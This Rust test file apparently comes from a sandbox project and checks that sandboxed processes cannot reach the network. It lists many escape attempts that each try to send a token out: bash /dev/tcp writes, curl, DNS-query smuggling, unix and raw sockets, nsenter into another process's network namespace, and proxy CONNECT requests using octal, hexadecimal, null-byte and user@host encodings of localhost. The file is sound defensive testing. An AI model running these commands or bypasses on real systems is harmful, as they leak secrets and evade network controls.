//! Reaching somebody: other machines, services of this one, and the proxy talked into it.

use pintle_sandbox::Rights;

use super::{ATTACK, Attack, By, says_token, token_arrives, withstand};

#[test]
fn nothing_is_reached() {
    withstand(
        "attacks::network::nothing_is_reached",
        |_| {},
        &[SOCKETS, LEFT_OPEN, PROXY, STOPPED],
    );
}

const REACH: Attack = Attack { witness: token_arrives, ..ATTACK };
const CALL: Attack = Attack { witness: says_token, ..ATTACK };

/// Connects a socket of a unix family to the path in a variable.
macro_rules! unix {
    ($variable:literal) => {
        concat!(
            "python3 -I -c '
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ[\"",
            $variable,
            "\"])
s.send(os.environ[\"TOKEN\"].encode())'"
        )
    };
}

const PAIR: &str = r#"python3 -I -c '
import os, socket
s = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
s.sendto(os.environ["TOKEN"].encode(), os.environ["DATAGRAM_SOCKET"])'"#;

const PAIR_INSIDE: &str = r#"python3 -I -c '
import os, socket
s = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
s.sendto(os.environ["TOKEN"].encode(), os.environ["DATAGRAMS_INSIDE"])'"#;

const SOCKETS: &[Attack] = &[
    REACH.with("TCP", r#"bash -c 'echo "$TOKEN" > /dev/tcp/127.0.0.1/$PORT4'"#),
    REACH.with("TCP, by name", r#"bash -c 'echo "$TOKEN" > /dev/tcp/localhost/$PORT4'"#),
    REACH.with("IPv6", r#"bash -c 'echo "$TOKEN" > /dev/tcp/::1/$PORT6'"#),
    REACH.with("IPv4 in IPv6", r#"bash -c 'echo "$TOKEN" > /dev/tcp/::ffff:127.0.0.1/$PORT4'"#),
    REACH.with("UDP", r#"bash -c 'echo "$TOKEN" > /dev/udp/127.0.0.1/$UDP4'"#),
    REACH.with(
        "a question to a name server",
        r#"python3 -I -c '
import os, socket, struct
name = os.environ["TOKEN"].encode()
question = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\0\0\1\0\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", int(os.environ["UDP4"])))'"#,
    ),
    REACH.with("curl", r#"curl -s -m 1 "http://127.0.0.1:$PORT4/$TOKEN" --noproxy '*'"#),
    REACH.with(
        "node",
        r#"node -e 'require("net").connect(process.env.PORT4, "127.0.0.1").end(process.env.TOKEN, () => process.exit())'"#,
    ),
    REACH.with(
        "git",
        r#"timeout 5 git ls-remote "git://127.0.0.1:$PORT4/$TOKEN" & sleep 0.5; kill $!"#,
    ),
    REACH.with("multipath TCP", r#""$TOOL" mptcp $PORT4 "$TOKEN""#),
    REACH.with("TCP fast open", r#""$TOOL" fastopen $PORT4 "$TOKEN""#),
    REACH.with("io_uring", r#""$TOOL" uring-connect $PORT4 "$TOKEN""#),
    Attack {
        by: By::Root,
        ..REACH.with(
            "the network of another process",
            r#"nsenter --net=/proc/$VICTIM/ns/net bash -c 'echo "$TOKEN" > /dev/tcp/127.0.0.1/$PORT4'"#,
        )
    },
    REACH.with("a socket in the home folder", unix!("HOME_SOCKET")),
    REACH.with("a socket in /tmp, as agents have them", unix!("TMP_SOCKET")),
    REACH.with("a socket in a folder that can be read", unix!("TOOLS_SOCKET")),
    REACH.with("a socket in the workspace", unix!("WORKSPACE_SOCKET")),
    REACH.with(
        "a socket in the workspace, moved with its folder",
        concat!(
            "mv app other; export WORKSPACE_SOCKET=other/socket; ",
            unix!("WORKSPACE_SOCKET")
        ),
    ),
    Attack {
        rights: Rights::Workspace,
        ..REACH.with(
            "a socket in the workspace, with the rights of workspace",
            unix!("WORKSPACE_SOCKET"),
        )
    },
    REACH.with(
        "a socket linked into the workspace",
        concat!(
            "ln -s \"$HOME_SOCKET\" here; export HOME_SOCKET=here; ",
            unix!("HOME_SOCKET")
        ),
    ),
    REACH.with(
        "a datagram",
        r#"python3 -I -c '
import os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(os.environ["TOKEN"].encode(), os.environ["DATAGRAM_SOCKET"])'"#,
    ),
    REACH.with("a datagram from one end of a pair", PAIR),
    Attack {
        rights: Rights::Workspace,
        ..REACH.with("a datagram from one end of a pair into the workspace", PAIR_INSIDE)
    },
    REACH.with(
        "a socket without a file",
        r#"python3 -I -c '
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect("\0" + os.environ["ABSTRACT"])
s.send(os.environ["TOKEN"].encode())'"#,
    ),
    Attack { by: By::Root, ..CALL.with("packets", r#""$TOOL" socket 17 3 768 && echo "$TOKEN""#) },
    Attack { by: By::Root, ..CALL.with("raw sockets", r#""$TOOL" socket 2 3 1 && echo "$TOKEN""#) },
    Attack {
        by: By::Root,
        ..CALL.with("raw IPv6 sockets", r#""$TOOL" socket 10 3 58 && echo "$TOKEN""#)
    },
    CALL.with("the host of a virtual machine", r#""$TOOL" socket 40 1 0 && echo "$TOKEN""#),
    CALL.with("netlink: sockets of the machine", r#""$TOOL" socket 16 3 4 && echo "$TOKEN""#),
    CALL.with("netlink: events of devices", r#""$TOOL" socket 16 3 15 && echo "$TOKEN""#),
    CALL.with("netlink: generic", r#""$TOOL" socket 16 3 16 && echo "$TOKEN""#),
    Attack {
        by: By::Root,
        ..CALL.with(
            "netlink: an address for an interface",
            r#"ip addr add 127.9.9.9/32 dev lo && ip addr del 127.9.9.9/32 dev lo && echo "$TOKEN""#,
        )
    },
    CALL.with(
        "being reached",
        r#"python3 -I -c '
import os, socket
s = socket.create_server(("127.0.0.1", int(os.environ["KNOCKED_AT"])))
s.settimeout(1)
s.accept()
print(os.environ["TOKEN"])'"#,
    ),
];

const LEFT_OPEN: &[Attack] = &[
    REACH.with("a connection left open", r#"bash -c 'echo "$TOKEN" >&$LEFT_SOCKET'"#),
    REACH.with("a pair left open", r#"bash -c 'echo "$TOKEN" >&$LEFT_PAIR'"#),
];

/// Asks the proxy for a host, and sends the token there.
macro_rules! tunnel {
    ($host:literal) => {
        concat!(
            "python3 -I -c '
import os, socket
place = os.environ[\"http_proxy\"].split(\"//\")[1].split(\":\")
s = socket.create_connection((place[0], int(place[1])))
s.settimeout(5)
host = \"",
            $host,
            "\" + \":\" + os.environ[\"PORT4\"]
s.sendall(b\"CONNECT \" + host.encode() + b\" HTTP/1.1\\r\\n\\r\\n\")
s.recv(999)
s.sendall(os.environ[\"TOKEN\"].encode())
s.shutdown(1)
s.recv(1)'"
        )
    };
}

const ASK: Attack = Attack { rights: Rights::Network, ..REACH };

const PROXY: &[Attack] = &[
    ASK.with("the machine itself", tunnel!("127.0.0.1")),
    ASK.with("the machine itself, by name", tunnel!("localhost")),
    ASK.with("its name in other letters", tunnel!("LocalHost")),
    ASK.with("in two parts", tunnel!("127.1")),
    ASK.with("as one number", tunnel!("2130706433")),
    ASK.with("in octal", tunnel!("0177.0.0.1")),
    ASK.with("in hexadecimal", tunnel!("0x7f.1")),
    ASK.with("no address at all", tunnel!("0.0.0.0")),
    ASK.with("IPv4 in IPv6", tunnel!("[::ffff:127.0.0.1]")),
    ASK.with("IPv4 in IPv6, in hexadecimal", tunnel!("[::ffff:7f00:1]")),
    ASK.with("a name that ends early", tunnel!("127.0.0.1\\0.example.org")),
    ASK.with("a user before the name", tunnel!("example.org@127.0.0.1")),
    ASK.with("a plain request", r#"curl -s -m 1 --noproxy '' "http://127.0.0.1:$PORT4/$TOKEN""#),
    ASK.with(
        "a request with a user",
        r#"python3 -I -c '
import os, socket
place = os.environ["http_proxy"].split("//")[1].split(":")
s = socket.create_connection((place[0], int(place[1])))
s.settimeout(5)
line = "GET http://example.org@127.0.0.1:%s/%s HTTP/1.1\r\n\r\n" % (os.environ["PORT4"], os.environ["TOKEN"])
s.sendall(line.encode())
s.shutdown(1)
s.recv(99)'"#,
    ),
    ASK.with("past the proxy", r#"bash -c 'echo "$TOKEN" > /dev/tcp/127.0.0.1/$PORT4'"#),
    ASK.with("past the proxy, by a socket", unix!("TMP_SOCKET")),
];

/// Stopped by the kernel these tests were written on, with or without a sandbox.
const STOPPED: &[Attack] = &[
    Attack {
        stopped_anyway: Some("CONFIG_CRYPTO_USER_API is not set"),
        ..CALL.with("ciphers of the kernel", r#""$TOOL" socket 38 5 0 && echo "$TOKEN""#)
    },
    Attack {
        stopped_anyway: Some("CONFIG_IP_SCTP is not set"),
        ..CALL.with("SCTP", r#""$TOOL" socket 2 1 132 && echo "$TOKEN""#)
    },
];
